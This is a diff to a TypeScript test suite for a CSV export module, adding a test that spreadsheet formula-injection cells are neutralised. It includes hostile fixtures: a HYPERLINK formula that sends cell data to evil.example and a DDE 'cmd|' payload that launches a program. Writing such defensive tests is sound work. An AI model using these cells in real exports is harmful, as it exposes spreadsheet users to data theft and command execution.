@@ -1,5 +1,5 @@
 import fc from 'fast-check';
-import { csvField, csvLine, csvOf, csvStream, wantsCsv } from '../../src/common/csv';
+import { csvLine, csvOf, csvStream, wantsCsv } from '../../src/common/csv';
 import { parseCsv } from '../support/csv';
 
 async function drain(stream: NodeJS.ReadableStream): Promise<string> {
@@ -10,14 +10,25 @@ async function drain(stream: NodeJS.ReadableStream): Promise<string> {
 
 describe('CSV export', () => {
   it('should quote only fields holding a quote, comma or line break, doubling inner quotes', () => {
-    expect(['plain', 'a,b', 'say "hi"', 'x\ny', 'x\r\ny', '', null, undefined, 12, true].map(csvField))
-      .toEqual(['plain', '"a,b"', '"say ""hi"""', '"x\ny"', '"x\r\ny"', '', '', '', '12', 'true']);
+    expect(csvLine(['plain', 'a,b', 'say "hi"', 'x\ny', 'x\ry', 'x\r\ny', '', null, undefined, 12, true]))
+      .toBe('plain,"a,b","say ""hi""","x\ny","x\ry","x\r\ny",,,,12,true\r\n');
+  });
+
+  it('should neutralise every cell a spreadsheet would evaluate, and leave plain numbers numbers', () => {
+    const evil = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3+cmd|\'/C calc\'!A0', '@SUM(A1)', '\tx', '\rx',
+      '\uFF1D1+1', '\uFF0B1', '\uFF0D1', '\uFF20x'];
+    const [row] = parseCsv(csvLine(evil));
+    expect(row).toEqual(evil.map((v) => `'${v}`));
+    const plain = ['-50.25', '-7', '12.00', 'a-b', "'quoted", '1e5'];
+    expect(parseCsv(csvLine(plain))).toEqual([plain]);
   });
 
   it('should read back any row of any strings through an independent RFC 4180 reader', () => {
-    const text = fc.string({ unit: fc.constantFrom('a', 'Z', ' ', '"', ',', '\r', '\n', 'é', '₹', '\t', "'", '=') , maxLength: 12 });
+    const unit = fc.constantFrom('a', 'Z', ' ', '"', ',', '\r', '\n', 'é', '₹', '\t', "'", '=', '-', '+', '@', '1');
+    const text = fc.string({ unit, maxLength: 12 });
+    const shown = (v: string) => (/^[=+\-@\t\r]/.test(v) && !/^-\d+(\.\d+)?$/.test(v) ? `'${v}` : v);
     fc.assert(fc.property(fc.array(fc.array(text, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 5 }), (rows) => {
-      expect(parseCsv(rows.map(csvLine).join(''))).toEqual(rows);
+      expect(parseCsv(rows.map(csvLine).join(''))).toEqual(rows.map((r) => r.map(shown)));
     }), { numRuns: 500 });
   });
 
